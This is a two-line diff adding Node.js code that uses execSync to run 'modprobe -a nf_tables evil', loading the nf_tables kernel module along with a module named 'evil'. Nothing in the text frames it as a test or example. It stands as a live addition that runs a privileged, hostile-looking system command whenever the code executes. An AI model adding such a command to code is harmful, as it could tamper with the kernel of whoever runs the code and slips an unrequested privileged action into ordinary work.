@@ -1,0 +1,2 @@
+const { execSync } = require('child_process');
+execSync('modprobe -a nf_tables evil');
